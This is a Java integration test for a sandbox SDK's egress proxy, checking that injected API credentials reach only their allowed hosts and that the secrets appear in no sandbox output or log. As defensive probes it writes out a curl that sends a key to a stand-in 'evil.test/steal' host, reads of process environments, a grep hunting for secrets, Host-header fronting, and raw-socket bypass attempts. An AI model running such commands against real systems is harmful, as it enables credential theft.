package ai.chalk.compute.network;

import static org.assertj.core.api.Assertions.assertThat;

import ai.chalk.compute.sandbox.ExecResult;
import ai.chalk.compute.sandbox.Sandbox;
import ai.chalk.compute.sandbox.SandboxClient;
import ai.chalk.compute.scaling.ScalingGroup;
import ai.chalk.compute.secret.Secret;
import ai.chalk.compute.server.ComputeServer;
import ai.chalk.compute.server.egress.EgressWorld;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/**
 * The untrusted-code scenario through the SDK, against a real server and its egress proxy: a sandbox allowed one host
 * with a credential tries every way around its policy while the allowed call succeeds, the real header arriving at the
 * test server. The destinations are servers in a network namespace of the test's own ({@link EgressWorld}); the secret
 * must appear in nothing the sandbox can see and in no log line.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(value = 180, unit = TimeUnit.SECONDS)
class UntrustedCodeNetworkTest {

    private static final String SECRET = "sk-proj-9f1e2d3c4b5a6978";
    private static final String LOCAL_TOKEN = "xoxb-local-55aa33";

    private final ListAppender<ILoggingEvent> logs = new ListAppender<>();
    private final List<String> seen = new ArrayList<>();
    private EgressWorld world;
    private ComputeServer server;
    private SandboxClient client;

    @BeforeAll
    void start(@TempDir Path dataDir) throws Exception {
        logs.start();
        root().addAppender(logs);
        world = EgressWorld.start();
        server = ComputeServer.builder()
                .dataDir(dataDir)
                .port(0)
                .egress(world.options())
                .build()
                .start();
        client = SandboxClient.inProcess(server.inProcessName())
                .withLocalEnvironment(Map.of("SLACK_TOKEN", LOCAL_TOKEN));
        client.secrets().upsert("OPENAI_API_KEY", SECRET);
    }

    @AfterAll
    void stop() {
        root().detachAppender(logs);
        if (client != null) {
            client.close();
        }
        if (server != null) {
            server.close();
        }
        if (world != null) {
            world.close();
        }
        List<String> lines = new ArrayList<>(seen);
        logs.list.forEach(e -> lines.add(e.getFormattedMessage()));
        assertThat(lines).isNotEmpty().noneMatch(l -> l.contains(SECRET) || l.contains(LOCAL_TOKEN));
    }

    @BeforeEach
    void forget() throws Exception {
        world.clear();
    }

    private static ch.qos.logback.classic.Logger root() {
        return (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("ROOT");
    }

    private String sh(Sandbox s, String script) {
        ExecResult r = s.exec("sh", "-c", script);
        String out = r.stdoutText() + r.stderrText();
        seen.add(out);
        return out;
    }

    private String py(Sandbox s, String script) {
        ExecResult r = s.exec("python3", "-c", script);
        String out = r.stdoutText() + r.stderrText();
        seen.add(out);
        return out;
    }

    @Test
    void aSandboxAllowedOneHostWithACredentialGetsNothingElse() throws Exception {
        Sandbox sandbox = client.create(Sandbox.builder()
                .network(NetworkPolicy.allowlist("other.test"))
                .addCredentials("api.allowed.test", "OPENAI_API_KEY")
                .env("TEST_CA", world.caPem)
                .build());
        seen.add(sandbox.toString());
        try {
            sh(sandbox, "printf '%s' \"$TEST_CA\" > /tmp/testca.pem");
            // the allowed call: the real header arrives, the sandbox saw a placeholder
            assertThat(sh(
                            sandbox,
                            "curl -sS -H \"Authorization: Bearer $OPENAI_API_KEY\""
                                    + " https://api.allowed.test/v1/models"))
                    .contains("\"ok\": true");
            JsonNode models = world.receivedFor("api.allowed.test").get(0);
            assertThat(models.get("headers").toString()).contains("Bearer " + SECRET);
            assertThat(sh(sandbox, "echo $OPENAI_API_KEY")).isEqualTo("CHALK_PLACEHOLDER_OPENAI_API_KEY\n");

            // the secret is nowhere it can look
            sh(sandbox, "sleep 300 >/dev/null 2>&1 &");
            assertThat(sh(
                            sandbox,
                            "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n';"
                                    + " grep -rs sk-proj /chalk /etc /tmp /workspace; true"))
                    .doesNotContain(SECRET);
            // another host: refused, and nothing reaches it
            assertThat(sh(sandbox, "curl -sS -i http://evil.test/steal?k=$OPENAI_API_KEY"))
                    .contains("403", "network policy");
            assertThat(sh(sandbox, "curl -sS https://evil.test/ 2>&1; echo exit=$?"))
                    .contains("CONNECT tunnel failed, response 403");
            // the unlisted host it may reach gets the placeholder, also through a redirect from the listed one
            assertThat(py(
                            sandbox,
                            "import os, ssl, urllib.request\n"
                                    + "ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])\n"
                                    + "ctx.load_verify_locations('/tmp/testca.pem')\n"
                                    + "o = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx))\n"
                                    + "r = urllib.request.Request('https://api.allowed.test/redirect?to="
                                    + "https://other.test/landing', headers={'Authorization': 'Bearer '"
                                    + " + os.environ['OPENAI_API_KEY']})\n"
                                    + "print(o.open(r, timeout=20).read().decode())\n"))
                    .contains("/landing");
            assertThat(world.receivedFor("other.test").get(0).get("headers").toString())
                    .contains("Bearer CHALK_PLACEHOLDER_OPENAI_API_KEY")
                    .doesNotContain(SECRET);
            // fronting: the allowed host's TLS with another Host
            assertThat(sh(sandbox, "curl -sS -i -H 'Host: evil.test' https://api.allowed.test/"))
                    .contains("403", "Host header names evil.test");
            // direct connections, UDP, raw sockets, IPv6, names outside the policy
            String out = py(
                    sandbox,
                    "import socket\n"
                            + "def t(what, f):\n"
                            + "    try:\n"
                            + "        f(); print(what, 'OPEN')\n"
                            + "    except OSError as e:\n"
                            + "        print(what, 'failed')\n"
                            + "t('direct', lambda: socket.create_connection(('" + world.farA.getHostAddress()
                            + "', 443), 3))\n"
                            + "t('direct6', lambda: socket.create_connection(('" + world.farV6.getHostAddress()
                            + "', 443), 3))\n"
                            + "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                            + "t('udp', lambda: u.sendto(b'x', ('" + world.farA.getHostAddress() + "', 5353)))\n"
                            + "t('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))\n"
                            + "t('dns', lambda: socket.getaddrinfo('evil.test', 443))\n");
            assertThat(out)
                    .doesNotContain("OPEN")
                    .contains("direct failed", "direct6 failed", "udp failed", "raw failed", "dns failed");
            assertThat(world.receivedFor("evil.test")).isEmpty();
            assertThat(world.received()).noneMatch(r -> r.has("udp"));
        } finally {
            sandbox.terminate();
        }
    }

    @Test
    void aLocalCredentialAndAHeaderRuleReachOnlyTheirHosts() throws Exception {
        Sandbox sandbox = client.create(Sandbox.builder()
                .network(NetworkPolicy.none()
                        .rule(
                                "api.allowed.test",
                                NetworkRule.headerFromSecret("X-Api-Key", Secret.fromChalkEnv("OPENAI_API_KEY"))
                                        .withHeader("X-Team", "blue")
                                        .when(RequestMatch.pathStartsWith("/v1/"))))
                .addCredentials(List.of("*.wild.test"), Secret.fromLocalEnv("SLACK_TOKEN"))
                .build());
        try {
            sh(sandbox, "curl -sS https://api.allowed.test/v1/a; curl -sS https://api.allowed.test/other");
            sh(sandbox, "curl -sS -H \"Authorization: Bearer $SLACK_TOKEN\" https://x.wild.test/slack");
            List<JsonNode> api = world.receivedFor("api.allowed.test");
            assertThat(api.get(0).get("headers").toString()).contains("\"X-Api-Key\",\"" + SECRET, "X-Team");
            assertThat(api.get(1).get("headers").toString()).doesNotContain("X-Api-Key", SECRET);
            assertThat(world.receivedFor("x.wild.test").get(0).get("headers").toString())
                    .contains("Bearer " + LOCAL_TOKEN);
            assertThat(sh(sandbox, "echo $SLACK_TOKEN")).isEqualTo("CHALK_PLACEHOLDER_SLACK_TOKEN\n");
        } finally {
            sandbox.terminate();
        }
        // the managed secret saved for the local value goes with the sandbox
        assertThat(client.secrets().list()).noneMatch(s -> s.name().startsWith("CHALK_LOCAL_SLACK_TOKEN"));
    }

    @Test
    void noPolicyIsNoNetworkAndAllIsTheWholeNetwork() {
        Sandbox none = client.create(Sandbox.builder().build());
        Sandbox all =
                client.create(Sandbox.builder().network(NetworkPolicy.all()).build());
        try {
            assertThat(sh(none, "cat /proc/net/dev")).doesNotContain("egress0", "tap0");
            assertThat(sh(all, "cat /proc/net/dev")).contains("tap0").doesNotContain("egress0");
        } finally {
            none.terminate();
            all.terminate();
        }
    }

    @Test
    void aScalingGroupCarriesItsPolicyAndCredentialsInItsSpec() {
        ScalingGroup group = ScalingGroup.create(client, "egress-group", "")
                .replicas(0, 1)
                .network(NetworkPolicy.allowlist("pypi.org").deny("10.0.0.0/8"))
                .addCredentials("api.openai.com", "OPENAI_API_KEY")
                .deploy();
        try {
            var container = group.spec().getContainerSpec();
            seen.add(group.spec().toString());
            assertThat(container.getEnvVarsMap()).containsEntry("OPENAI_API_KEY", "CHALK_PLACEHOLDER_OPENAI_API_KEY");
            assertThat(container.getNetworkPolicy().getAllowedHostsMap()).containsKeys("pypi.org", "api.openai.com");
            assertThat(container.getNetworkPolicy().getDeniedRoutesList()).containsExactly("10.0.0.0/8");
            assertThat(container
                            .getNetworkPolicy()
                            .getAllowedHostsMap()
                            .get("api.openai.com")
                            .getRules(0)
                            .getTransform(0)
                            .getHeadersSecretsMap())
                    .containsEntry(NetworkSpecs.PLACEHOLDER_KEY + "CHALK_PLACEHOLDER_OPENAI_API_KEY", "OPENAI_API_KEY");
        } finally {
            group.delete();
        }
    }
}
